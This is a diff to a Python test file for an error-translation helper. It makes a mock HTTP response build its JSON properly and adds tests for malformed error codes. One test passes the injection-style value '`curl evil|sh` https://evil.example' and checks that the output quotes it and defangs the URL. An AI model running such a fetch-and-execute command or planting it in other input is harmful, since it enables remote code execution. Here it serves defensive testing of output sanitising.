@@ -1,3 +1,4 @@
+import json
 from unittest.mock import MagicMock
 
 import pytest
@@ -20,12 +21,12 @@ from shared.errors import AccountGone, Blocked, NotFound, SasquashError, Throttl
 class Answer:
     """As much of an HTTP response as azure-core's errors read."""
 
-    def __init__(self, status: int, code: str, headers: dict[str, str]) -> None:
+    def __init__(self, status: int, code: object, headers: dict[str, str]) -> None:
         self.status_code = status
         self.reason = "reason"
         self.headers = headers
         self.request = HttpRequest("GET", "https://example.com")
-        self._text = f'{{"error": {{"code": "{code}", "message": "m"}}}}'
+        self._text = json.dumps({"error": {"code": code, "message": "m"}})
 
     def text(self) -> str:
         return self._text
@@ -34,8 +35,17 @@ class Answer:
         return self._text.encode()
 
 
-def translate(status: int, code: str = "SomeCode", **headers: str) -> SasquashError:
+def translate(status: int, code: object = "SomeCode", **headers: str) -> SasquashError:
     return from_azure(HttpResponseError(response=Answer(status, code, headers)), doing="Doing it")
+
+
+@pytest.mark.parametrize("code", [7, {"a": 1}, ["ScopeLocked"], True])
+def test_code_that_is_no_text_is_no_code(code: object) -> None:
+    assert str(translate(403, code)).startswith("Doing it failed: 403 no code: ")
+
+
+def test_code_is_quoted_as_text_from_outside() -> None:
+    assert "403 'curl evil|sh' hxxps://evil.example: " in str(translate(403, "`curl evil|sh` https://evil.example"))
 
 
 @pytest.mark.parametrize("status", [408, 500, 502, 503, 504])
